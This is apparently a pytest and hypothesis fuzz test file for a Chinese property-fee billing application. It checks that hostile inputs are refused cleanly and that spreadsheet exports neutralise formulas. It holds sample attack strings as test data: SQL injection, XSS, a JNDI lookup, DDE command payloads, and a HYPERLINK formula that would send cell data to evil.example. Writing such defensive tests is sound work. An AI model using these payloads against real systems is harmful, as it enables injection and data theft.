"""Bad input everywhere: hypothesis feeds every service and CLI entry point hostile values.

Allowed outcomes: success, or a FeeDeskError whose message is Chinese; after every error
the ledger is unchanged (row counts and sums of every table that matters). Anything else
(a crash, an English database error, a half-written row) fails the test, and is fixed in
the code, not here. The number of cases tried goes into the figures table.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from app.cli.commands import main as feedesk
from app.errors import FeeDeskError
from app.money import MAX_FEN, Money
from app.services import run
from app.services.bills import arrears, billing, fees
from app.services.desk import payments, shifts
from app.services.master import accounts
from app.services.system import auth
from tests.helpers import assign_all, bill, make_fee
from tests.reliability.figures import count, scaled
from tests.reliability.ledgers import fingerprint

EXAMPLES = scaled(60, 600)
CJK = re.compile(r"[\u4e00-\u9fff]")

NASTY = [
    "", " ", "\t", "\n", "１２３", "１２３.４５", "０.０１", "－５", "-1", "-0.01", "0", "0.00", "00000", "1e3",
    "1E-2", "1,000", "12.505", "NaN", "nan", "Infinity", "-inf", "99999999999999999999", "9" * 400, "1" * 13,
    "999999999.99", "1000000000", "'; DROP TABLE payment; --", "1-1-101' OR '1'='1", "\" OR 1=1 --",
    "%", "_", "\\", "\x00", "a\x00b", "\u202e1-1-101", "a\nb", "😀", "١٢٣", "²", "Ⅻ", "½", "𝟙𝟚𝟛", "￥", "¥-5",
    "--5", "+5", ".5", "5.", " 5 ", "5 0", "0x10", "1_000", "１-１-１０１", "1-1-101", "2026-13-01",
    "0000-00-00", "9999-12-31", "2026-02-30", "2026-09", "2100-12", "1999-12", "cash", "wechat", "CASH=1",
    "cash=1", "cash=-1", "cash=１２", "cash=1:" + "x" * 100, "=", ":", "A" * 5000, "张三" * 300,
    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "${jndi:ldap://x}", "\r\n\r\n", "\x1b[31m",
]

hostile = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.from_regex(r"[-+]?[0-9０-９]{0,22}([.．][0-9]{0,6})?", fullmatch=True),
    st.text(alphabet=st.characters(max_codepoint=0x1F, min_codepoint=0), max_size=5),
)
huge_int = st.one_of(st.integers(min_value=-(10**30), max_value=10**30), st.sampled_from([0, -1, 1, 2**63, -(2**63)]))
dates = st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31))
ACCOUNT_CODES = ["1-1-101", "1-1-102", "1-2-201", "2-1-101"]
code_or_hostile = st.one_of(st.sampled_from(ACCOUNT_CODES), hostile)
fee_or_hostile = st.one_of(st.sampled_from(["WYF", "WX", "SF"]), hostile)

# No shrinking: a failing case is printed as found (shrinking hostile text takes minutes).
SETTINGS = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
                    phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large, HealthCheck.large_base_example])

TRIED = {"n": 0}


def attempt(lg, fn, /, *, as_admin: bool = False, **kw):
    """Run one use case: success, or a Chinese FeeDeskError with the ledger unchanged.
    `as_admin`: on the administrator's connection (user administration, see Ledger.admin_factory)."""
    TRIED["n"] += 1
    count("bad_inputs")
    before = fingerprint(lg)
    try:
        return run(lg.admin_factory if as_admin else lg.factory, fn, **kw)
    except FeeDeskError as exc:
        assert CJK.search(exc.message), f"message is not Chinese: {exc.message!r}"
        assert fingerprint(lg) == before, f"{fn.__name__} changed the ledger and then failed"
        return exc


@pytest.fixture
def lg(populated):
    return populated


def test_money_parse_accepts_only_amounts_a_person_types():
    @given(hostile)
    @SETTINGS
    def check(text):
        count("bad_inputs")
        try:
            m = Money.parse(text)
        except FeeDeskError as exc:
            assert CJK.search(exc.message)
            return
        assert 0 <= m.fen <= MAX_FEN
        ascii_text = text.translate(str.maketrans("０１２３４５６７８９．－", "0123456789.-"))
        assert re.fullmatch(r"\s*(￥|¥|RMB)?\s*[0-9]+(\.[0-9]{1,2})?\s*(元)?\s*", ascii_text), text

    check()


def test_accounts_master_data(lg):
    admin = lg.actor("admin")
    fields = st.fixed_dictionaries({k: hostile for k in ("building", "entrance", "room", "code", "kind", "area",
                                                         "owner", "phone", "status", "id_number", "tags")})

    @given(fields)
    @SETTINGS
    def check(row):
        attempt(lg, accounts.add_account, actor=admin, row=accounts.AccountInput(**row))

    check()


def test_account_lookups(lg):
    cashier = lg.actor("demo")

    @given(code_or_hostile, dates, hostile, st.integers(min_value=-5, max_value=10**6))
    @SETTINGS
    def check(code, as_of, query, limit):
        attempt(lg, accounts.account_card, actor=cashier, code=code, as_of=as_of)
        attempt(lg, accounts.search_accounts, actor=cashier, query=query, limit=limit)
        attempt(lg, arrears.arrears, actor=cashier, as_of=as_of, building=query or None)

    check()


def test_fee_items_tariffs_and_assignments(lg):
    admin = lg.actor("admin")

    @given(hostile, hostile, hostile, hostile, hostile, hostile, huge_int, hostile, huge_int, dates, hostile,
           hostile)
    @SETTINGS
    def check(code, name, method, rate, cycle, kind, due_days, late, grace, start, dept, unit):
        attempt(lg, fees.add_fee, actor=admin, code=code, name=name, method=method, rate=rate, cycle=cycle,
                kind=kind, due_days=due_days, late_fee_daily=late, late_fee_grace=grace, effective_from=start,
                department=dept, unit_name=unit)

    @given(fee_or_hostile, hostile, dates, st.booleans(), hostile, code_or_hostile, huge_int)
    @SETTINGS
    def check_tariff(fee, rate, start, everyone, building, account, quantity):
        attempt(lg, fees.add_tariff, actor=admin, code=fee, rate=rate, effective_from=start)
        attempt(lg, fees.assign_fee, actor=admin, fee_code=fee, all_accounts=everyone, building=building or None,
                account_code=account or None, quantity=quantity)

    check()
    check_tariff()


def test_billing_meters_and_charges(lg):
    admin, cashier = lg.actor("admin"), lg.actor("demo")

    @given(hostile, code_or_hostile, fee_or_hostile, hostile, dates, st.booleans(), hostile, hostile, hostile)
    @SETTINGS
    def check(period, account, fee, reading, read_on, replaced, quantity, amount, note):
        attempt(lg, billing.bill_run, actor=admin, period=period)
        attempt(lg, billing.read_meter, actor=admin, account_code=account, fee_code=fee, reading=reading,
                read_on=read_on, replaced=replaced)
        attempt(lg, billing.add_charge, actor=cashier, account_code=account, fee_code=fee, quantity=quantity,
                amount=amount, note=note)

    check()


def test_payments(lg):
    cashier = lg.actor("demo")
    methods = st.one_of(st.sampled_from(["cash", "wechat", "card", "prepaid", "alipay"]), hostile)
    tenders = st.lists(st.builds(payments.TenderInput, methods, huge_int, hostile), max_size=4)
    charge_ids = st.one_of(st.none(), st.lists(huge_int, max_size=4))

    @given(code_or_hostile, tenders, charge_ids, st.booleans(), hostile)
    @SETTINGS
    def check(account, tender_list, ids, to_prepaid, tender_text):
        attempt(lg, payments.pay, actor=cashier, account_code=account, tenders=tender_list, charge_ids=ids,
                change_to_prepaid=to_prepaid)
        TRIED["n"] += 1
        count("bad_inputs")
        try:
            payments.parse_tender(tender_text)
        except FeeDeskError as exc:
            assert CJK.search(exc.message)

    check()


def test_shifts_users_and_corrections(lg):
    cashier, admin = lg.actor("lily"), lg.actor("admin")
    from app.services.desk import closes, corrections

    @given(hostile, hostile, hostile, hostile, hostile)
    @SETTINGS
    def check(amount, who, username, role, password):
        attempt(lg, shifts.open_shift, actor=cashier, float_amount=amount, float_by=who or None)
        attempt(lg, auth.add_user, as_admin=True, actor=admin, username=username, role=role, password=password)

    @given(hostile, hostile, hostile, hostile, hostile, huge_int, hostile)
    @SETTINGS
    def check_corrections(receipt_no, reason, approver, password, amount, charge_id, kind):
        demo = lg.actor("demo")
        attempt(lg, corrections.void_payment, actor=demo, receipt_no=receipt_no, reason=reason,
                approver=approver or None, approver_password=password)
        attempt(lg, corrections.refund_payment, actor=demo, receipt_no=receipt_no, tender=kind, reason=reason,
                amount=amount or None, approver=approver or None, approver_password=password)
        attempt(lg, corrections.waive, actor=demo, charge_id=charge_id, reason=reason, amount=amount or None,
                approver=approver or None, approver_password=password)
        attempt(lg, closes.move_cash, actor=demo, kind=kind, amount=amount, reason=reason)
        attempt(lg, closes.hand_in, actor=demo, collector=approver, amount=amount, note=reason)

    check()
    check_corrections()


def _csv_bytes(rows: list[list[str]], encoding: str) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode(encoding, errors="replace")


def _xlsx_bytes(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = Workbook()
    ws = wb.active
    for r in rows:  # Excel itself cannot hold control characters: the file could not exist
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", c) for c in r])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_malformed_csv_and_xlsx_imports(lg, tmp_path):
    admin = lg.actor("admin")
    header = st.one_of(st.just(["楼栋", "单元", "房号", "建筑面积", "业主", "电话", "状态"]),
                       st.lists(hostile, max_size=8))
    cells = st.lists(st.lists(hostile, max_size=9), max_size=6)

    @given(header, cells, st.sampled_from(["csv-utf8", "csv-gbk", "xlsx", "xlsx-cut", "bytes", "xlsx-as-csv",
                                          "zip-not-xlsx", "empty"]), st.binary(max_size=300))
    @SETTINGS
    def check(head, rows, form, junk):
        path = tmp_path / ("in.xlsx" if form.startswith("xlsx") or form == "zip-not-xlsx" else "in.csv")
        if form == "csv-utf8":
            data = _csv_bytes([head, *rows], "utf-8-sig")
        elif form == "csv-gbk":
            data = _csv_bytes([head, *rows], "gb18030")
        elif form == "xlsx":
            data = _xlsx_bytes([head, *rows])
        elif form == "xlsx-cut":
            full = _xlsx_bytes([head, *rows])
            data = full[: max(1, len(full) // 2)]
        elif form == "xlsx-as-csv":
            data = _csv_bytes([head, *rows], "utf-8")
        elif form == "zip-not-xlsx":
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w") as z:
                z.writestr("hello.txt", junk)
            data = buf.getvalue()
        elif form == "empty":
            data = b""
        else:
            data = junk
        path.write_bytes(data)
        attempt(lg, accounts.import_accounts, actor=admin, path=str(path))

    check()
    attempt(lg, accounts.import_accounts, actor=admin, path=str(tmp_path / "missing.csv"))
    attempt(lg, accounts.import_accounts, actor=admin, path=str(tmp_path))


CLI_COMMANDS = [
    lambda t: ["pay", "--account", t[0], "--tender", t[1], "--no-print"],
    lambda t: ["pay", "--account", "1-2-201", "--tender", "cash=100", "--charges", t[0], "--no-print"],
    lambda t: ["charge", "add", "--account", t[0], "--fee", "WX", "--amount", t[1]],
    lambda t: ["charge", "add", "--account", "1-1-101", "--fee", t[0], "--quantity", t[1], "--date", t[2]],
    lambda t: ["fee", "add", "--code", t[0], "--name", t[1], "--method", "fixed", "--rate", t[2], "--cycle",
               "monthly"],
    lambda t: ["fee", "rate", "--code", "WYF", "--rate", t[0], "--from", t[1]],
    lambda t: ["meter", "read", "--account", t[0], "--fee", "SF", "--reading", t[1], "--date", t[2]],
    lambda t: ["bill", "run", "--period", t[0], "--date", t[1]],
    lambda t: ["account", "show", t[0]],
    lambda t: ["arrears", "--as-of", t[0], "--building", t[1]],
    lambda t: ["shift", "open", "--float", t[0], "--date", t[1]],
    lambda t: ["user", "add", t[0], "--role", t[1], "--password", t[2]],
    lambda t: ["import", "accounts", t[0]],
    lambda t: ["restore", t[0]],
]


def test_cli_entry_points(lg, monkeypatch, capsys):
    monkeypatch.setenv("FEEDESK_PASSWORD", "admin")
    monkeypatch.setenv("FEEDESK_APPROVER_PASSWORD", "boss")
    argv_text = hostile.filter(lambda s: not s.startswith("-") and "\x00" not in s)

    @given(st.sampled_from(range(len(CLI_COMMANDS))), st.lists(argv_text, min_size=3, max_size=3),
           st.sampled_from(["admin", "demo"]))
    @settings(parent=SETTINGS, max_examples=max(20, EXAMPLES // 2))
    def check(which, texts, user):
        os.environ["FEEDESK_PASSWORD"] = user
        argv = ["--db", lg.url, "--user", user, *CLI_COMMANDS[which](texts)]
        TRIED["n"] += 1
        count("bad_inputs")
        before = fingerprint(lg)
        code = feedesk(argv)
        out = capsys.readouterr()
        assert code in (0, 1), (argv, out.err)
        if code == 1:
            assert out.err.startswith("错误：") and CJK.search(out.err), (argv, out.err)
            # A refused command writes nothing but its log-in record (audit of who tried).
            assert _money(fingerprint(lg)) == _money(before), argv

    check()


def _money(fp: tuple) -> tuple:
    return tuple(x for x in fp if x[0] not in ("audit_event", "app_user"))


def test_cases_the_fuzzing_found_are_refused_in_chinese(lg, tmp_path):
    """Each of these once crashed or was silently accepted; now each is refused, nothing written."""
    admin, cashier = lg.actor("admin"), lg.actor("demo")
    for text in ("١٢٣", "𝟙𝟚𝟛", "12\n5"):  # non-ASCII digits are not amounts
        with pytest.raises(FeeDeskError):
            Money.parse(text)
    assert Money.parse("１２３.４５").fen == 12345  # full-width digits from a Chinese IME are
    lg.run(fees.add_fee, actor=admin, code="SS", name="手术费", method="quantity", rate="199999", cycle="once")
    cases = [
        (payments.pay, dict(actor=cashier, account_code="1-2-201", tenders=[payments.TenderInput("cash", 100)],
                            charge_ids=[2**63])),
        (payments.pay, dict(actor=cashier, account_code="1-2-201", tenders=[payments.TenderInput("cash", 10**30)])),
        (billing.add_charge, dict(actor=cashier, account_code="1-2-201", fee_code="SS", quantity="9999999.99")),
        (billing.read_meter, dict(actor=admin, account_code="1-2-201", fee_code="SF", reading="99999999.99")),
        (accounts.import_accounts, dict(actor=admin, path=str(tmp_path))),
        (fees.add_fee, dict(actor=admin, code="X1", name="某费", method="fixed", rate="1", cycle="monthly",
                            unit_name="单位" * 7)),
        (fees.add_fee, dict(actor=admin, code="X2", name="某费", method="fixed", rate="999999999", cycle="monthly")),
        (fees.add_fee, dict(actor=admin, code="X3", name="某费", method="fixed", rate="١", cycle="monthly")),
        (accounts.add_account, dict(actor=admin, row=accounts.AccountInput(code="9-9-999", id_number="1" * 31))),
    ]
    for fn, kw in cases:
        result = attempt(lg, fn, **kw)
        assert isinstance(result, FeeDeskError), (fn.__name__, kw)


# ---- issue 17.8: exports never run a formula -------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0"]


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9,]+(\.[0-9]+)?%?", text) is not None


def test_owner_names_typed_as_formulas_are_exported_as_text(ledger, tmp_path, monkeypatch, capsys):
    rows = [["楼栋", "单元", "房号", "建筑面积", "业主", "电话", "状态"]]
    rows += [["9", "1", str(101 + i), "100", name, "", "已入住"] for i, name in enumerate(FORMULA_NAMES)]
    path = tmp_path / "units.csv"
    path.write_bytes(_csv_bytes(rows, "utf-8-sig"))
    # CSV has no formulas: the names are data and are stored as typed ...
    assert ledger.run(accounts.import_accounts, actor=ledger.actor("admin"), path=str(path)).imported == 5
    make_fee(ledger, "WYF 物业费 area 2.00 monthly", due_days=15)
    assign_all(ledger, "WYF")
    bill(ledger, "2026-09")
    # ... and every export shows them as text behind OWASP's single quote, never as a formula.
    monkeypatch.setenv("FEEDESK_PASSWORD", "boss")
    xlsx_path, csv_path = tmp_path / "arrears.xlsx", tmp_path / "arrears.csv"
    code = feedesk(["--db", ledger.url, "--user", "boss", "report", "arrears", "--as-of", "2026-11-25",
                    "--xlsx", str(xlsx_path), "--csv", str(csv_path)])
    assert code == 0, capsys.readouterr().err
    from openpyxl import load_workbook

    wb = load_workbook(xlsx_path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for name in FORMULA_NAMES:
        assert "'" + name in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    amounts = [c.value for c in cells if c.number_format == "#,##0.00"]
    assert amounts and all(not isinstance(v, str) for v in amounts)  # amounts stay numbers
    fields = [f for row in csv.reader(io.StringIO(csv_path.read_text("utf-8-sig"))) for f in row]
    for name in FORMULA_NAMES:
        assert "'" + name in fields
    assert "200.00" in fields  # an amount is still a plain number
    assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))
                or (f.startswith("-") and not _is_number(f))]


def test_every_text_cell_of_an_export_is_neutralised_and_numbers_stay_numbers(tmp_path):
    from openpyxl import load_workbook

    from app.reports import csvfile, xlsx
    from app.reports.document import Column, Document, KeyValues, Table, Text, safe_cell
    from app.services.reports import Rate, ReportMeta

    hostile_texts = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"]
    assert [safe_cell(t) for t in hostile_texts] == ["'" + t for t in hostile_texts]
    assert safe_cell("张三") == "张三" and safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell(-5) == -5 and safe_cell(Money(-1230)) == Money(-1230) and safe_cell(dt.date(2026, 1, 1))
    doc = Document("=标题", ReportMeta("=单位", "2026-10", "=打印人", "2026-11-25 10:00"), [
        KeyValues([("=键", "=值"), ("退款", Money(-1230))]),
        Table([Column("=列"), Column("金额"), Column("笔数"), Column("比率")],
              [[t, Money(-1230), -3, Rate(1, 3)] for t in hostile_texts], ["=合计", Money(-7380), -18, None],
              title="@表"),
        Text("-说明"),
    ])
    xlsx.render(doc, tmp_path / "t.xlsx")
    csvfile.render(doc, tmp_path / "t.csv")
    ws = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))], texts
    # (XML reads a stored CR back as LF: the cell still starts with the quote)
    assert {"'=标题", "'=键", "'=值", "'=列", "'=合计", "'@表", "'-说明",
            *("'" + t.replace("\r", "\n") for t in hostile_texts)} <= set(texts)
    numbers = [c.value for c in cells if not isinstance(c.value, str)]
    assert -3 in numbers and -18 in numbers and any(str(v) == "-12.3" for v in numbers)
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text("utf-8-sig"))))
    assert ["'=1+1", "-12.30", "-3", "33.33%"] in rows and ["'=合计", "-73.80", "-18", ""] in rows
    assert ["'=键", "'=值"] in rows and ["退款", "-12.30"] in rows and rows[0] == ["'=标题"]


def test_xlsx_import_refuses_a_formula_cell_naming_its_line(lg, tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["楼栋", "单元", "房号", "建筑面积", "业主", "电话", "状态"])
    ws.append(["8", "1", "101", "90", "张三", "13800001234", "已入住"])
    ws.append(["8", "1", "102", "90", '=HYPERLINK("http://evil.example","李四")', "", "已入住"])
    ws.append(["8", "1", "103", "=90*2", "王五", "", "已入住"])
    wb.save(tmp_path / "units.xlsx")
    before = fingerprint(lg)
    with pytest.raises(FeeDeskError) as info:
        lg.run(accounts.import_accounts, actor=lg.actor("admin"), path=str(tmp_path / "units.xlsx"))
    assert "第 3 行" in info.value.message and "E3" in info.value.message and "公式" in info.value.message
    assert "第 4 行" in info.value.message and "D4" in info.value.message
    assert fingerprint(lg) == before  # nothing imported, not even the good line


def teardown_module(module):
    print(f"\nbad inputs tried: {TRIED['n']}")


Path  # noqa: B018 - imported for type readers
